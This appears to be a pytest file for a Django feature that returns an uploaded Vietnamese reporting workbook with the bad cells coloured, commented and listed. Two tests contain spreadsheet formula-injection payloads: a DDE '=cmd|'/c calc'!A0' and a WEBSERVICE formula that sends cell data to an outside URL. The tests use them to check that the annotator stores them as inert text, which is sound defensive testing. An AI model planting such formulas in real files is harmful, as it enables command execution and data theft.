"""The workbook that comes back: the sender's own, with the cells to mend coloured and commented."""

import datetime
from io import BytesIO

import openpyxl
import pytest
from openpyxl.styles import Protection

from districts.imports import annotate
from districts.imports.annotate import annotated
from districts.imports.problems import Problem
from districts.imports.scope import Scope
from districts.imports.stage import stage
from districts.imports.writer import body_workbook
from tests.imports import cast
from tests.imports.cast import GOOD, filled

pytestmark = pytest.mark.django_db
BAD = GOOD | {"CQ2": {"Tử số": 132, "Mẫu số": 98}, "NT3": {"Giá trị": "mười hai"}}


@pytest.fixture
def scope():
    report = cast.Reporting().report
    return Scope(period=report.period, filler=report.body, report=report)


def marked(scope, figures=BAD):
    content = filled(body_workbook(scope.report), figures)
    problems = stage(content, "so-lieu.xlsx", scope).problems
    return openpyxl.load_workbook(BytesIO(annotated(content, "so-lieu.xlsx", scope, problems)))


def test_bad_cells_are_coloured_and_say_why(scope):
    sheet = marked(scope)["Số liệu"]
    assert sheet["E8"].fill.fgColor.rgb == "00F8D7D4"
    assert sheet["E8"].comment.text == "Tử số 132 lớn hơn mẫu số 98. Kiểm tra có đảo hai số không."
    assert (sheet["E8"].value, sheet["G9"].value) == (132, "mười hai")
    assert sheet["F8"].comment is None


def test_list_of_what_to_mend_stands_in_front(scope):
    book = marked(scope)
    assert book.sheetnames[:2] == ["Lỗi cần sửa", "Số liệu"]
    rows = [[cell.value for cell in row] for row in book["Lỗi cần sửa"].iter_rows()]
    assert rows == [
        ["Trang", "Ô", "Mức", "Vấn đề", "Cách sửa"],
        [
            "Số liệu",
            "E8",
            "cần sửa",
            "Tử số 132 lớn hơn mẫu số 98.",
            "Kiểm tra có đảo hai số không.",
        ],
        [
            "Số liệu",
            "G9",
            "cần sửa",
            "“mười hai” không phải số.",
            "Chỉ ghi số, ví dụ 12; phần chữ ghi vào cột Ghi chú.",
        ],
    ]


def test_what_was_theirs_stays(scope):
    book = marked(scope)
    sheet = book["Số liệu"]
    assert sheet.protection.sheet
    assert len(sheet.data_validations.dataValidation) == 5
    assert sheet.freeze_panes == "C7"
    assert book["_khoa"].sheet_state == "veryHidden"


def test_marked_workbook_can_be_mended_and_sent_again(scope):
    book = marked(scope)
    book["Số liệu"]["E8"], book["Số liệu"]["G9"] = 90, 12
    staging = stage(cast.saved(book), "so-lieu.xlsx", scope)
    assert (staging.problems, staging.counts["changes"]) == ([], 4)


def test_marks_are_given_anew_and_not_piled_up(scope):
    content = cast.saved(marked(scope))
    problems = stage(content, "so-lieu.xlsx", scope).problems
    again = openpyxl.load_workbook(BytesIO(annotated(content, "so-lieu.xlsx", scope, problems)))
    assert again.sheetnames.count("Lỗi cần sửa") == 1


def test_text_of_the_file_is_no_formula_in_the_list(scope):
    content = filled(body_workbook(scope.report), GOOD)
    problem = Problem("Số liệu", "E8", "x", "=cmd|'/c calc'!A0", "")
    book = openpyxl.load_workbook(BytesIO(annotated(content, "a.xlsx", scope, [problem])))
    assert book["Lỗi cần sửa"]["D2"].value == "'=cmd|'/c calc'!A0"


def test_large_workbook_comes_back_as_a_plain_copy(scope, monkeypatch):
    monkeypatch.setattr(annotate, "MOST_CELLS", 10)
    book = marked(scope)
    sheet = book["Số liệu"]
    assert book.sheetnames == ["Lỗi cần sửa", "Số liệu", "Hướng dẫn"]
    assert (sheet["E8"].value, sheet["E8"].fill.fgColor.rgb) == (132, "FFF8D7D4")
    assert "Tử số 132 lớn hơn mẫu số 98." in sheet["E8"].comment.text


def test_formula_that_reaches_out_comes_back_as_the_text_that_it_is(scope):
    content = filled(body_workbook(scope.report), BAD)
    book = openpyxl.load_workbook(BytesIO(content))
    formulas = ['=WEBSERVICE("http://vi-du.vn/"&A1)', "=cmd|'/c calc'!A0", '=HYPERLINK("http://vi-du.vn")']
    for row, formula in enumerate([*formulas, "=SUM(E8,F8)"], start=40):
        book["Số liệu"].cell(row, 8, formula)
    content = cast.saved(book)
    problem = Problem("Số liệu", "E8", "exceeds", "Tử số lớn hơn mẫu số.")
    marked = openpyxl.load_workbook(BytesIO(annotated(content, "a.xlsx", scope, [problem])))["Số liệu"]
    kept = [(marked.cell(row, 8).value, marked.cell(row, 8).data_type) for row in range(40, 44)]
    assert kept == [*[(formula, "s") for formula in formulas], ("=SUM(E8,F8)", "f")]


def test_cell_to_mend_is_unlocked_and_loses_the_format_that_came_by_pasting(scope):
    book = openpyxl.load_workbook(BytesIO(filled(body_workbook(scope.report), GOOD)))
    pasted, percent, fine = (book["Số liệu"][address] for address in ("G9", "E8", "F8"))
    pasted.value, percent.value = datetime.date(2023, 9, 13), 0.75
    pasted.number_format, percent.number_format = "dd/mm/yyyy", "0%"
    pasted.protection = percent.protection = Protection(locked=True)
    content = cast.saved(book)
    problems = stage(content, "so-lieu.xlsx", scope).problems
    sheet = openpyxl.load_workbook(BytesIO(annotated(content, "so-lieu.xlsx", scope, problems)))["Số liệu"]
    assert [(sheet[a].protection.locked, sheet[a].number_format) for a in ("G9", "E8", "F8")] == [
        (False, "General"),
        (False, "General"),
        (False, fine.number_format),
    ]
    sheet["G9"], sheet["E8"] = 12, 90
    mended = stage(cast.saved(sheet.parent), "so-lieu.xlsx", scope)
    assert (mended.problems, mended.read) == ([], 4)
